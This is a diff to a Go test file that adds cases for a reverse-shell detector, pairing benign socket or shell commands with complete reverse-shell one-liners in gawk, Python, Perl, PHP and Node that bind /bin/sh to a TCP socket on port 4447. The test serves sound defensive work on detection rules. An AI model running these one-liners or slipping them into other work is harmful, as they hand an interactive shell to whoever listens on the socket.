@@ -476,7 +476,20 @@ func TestReverseShellCommand(t *testing.T) {
 		{[]string{"/usr/bin/ncat", "-l", "8080"}, false},
 		{[]string{"/usr/bin/socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"}, false},
 		{[]string{"/usr/bin/nc", "-z", "10.0.0.5", "22"}, false},
+		{[]string{"/usr/bin/gawk", `BEGIN {s = "/inet/tcp/0/127.0.0.1/4447"; while (1) {printf "> " |& s; s |& getline c; if (c) {while ((c |& getline) > 0) print $0 |& s; close(c)}}}`}, true},
+		{[]string{"/usr/bin/python3", "-c", `import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",4447));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`}, true},
+		{[]string{"/usr/bin/perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4447,inet_aton("127.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");`}, true},
+		{[]string{"/usr/bin/php8.2", "-r", `$s=fsockopen("127.0.0.1",4447);proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$p);`}, true},
+		{[]string{"/usr/bin/node", "-e", `var n=require("net"),c=require("child_process"),s=new n.Socket();s.connect(4447,"127.0.0.1",function(){var p=c.spawn("/bin/sh");s.pipe(p.stdin);p.stdout.pipe(s)})`}, true},
+		// a socket alone, or a shell alone, is no reverse shell
+		{[]string{"/usr/bin/python3", "-c", "import socket; print(socket.gethostname())"}, false},
+		{[]string{"/usr/bin/php8.2", "-r", `echo fsockopen("127.0.0.1", 5432) ? "up" : "down";`}, false},
+		{[]string{"/usr/bin/python3", "-c", "import subprocess; subprocess.run(['/bin/sh', '-c', 'true'])"}, false},
+		{[]string{"/usr/bin/gawk", "{print $1}", "/var/log/kb/access.log"}, false},
 	} {
+		if got := handsShellToSocket(c.args[0], c.args); got != c.want {
+			t.Errorf("%q: handsShellToSocket %v, want %v (it opens the channel the rule names)", c.args, got, c.want)
+		}
 		e, err := New(Options{})
 		if err != nil {
 			t.Fatal(err)
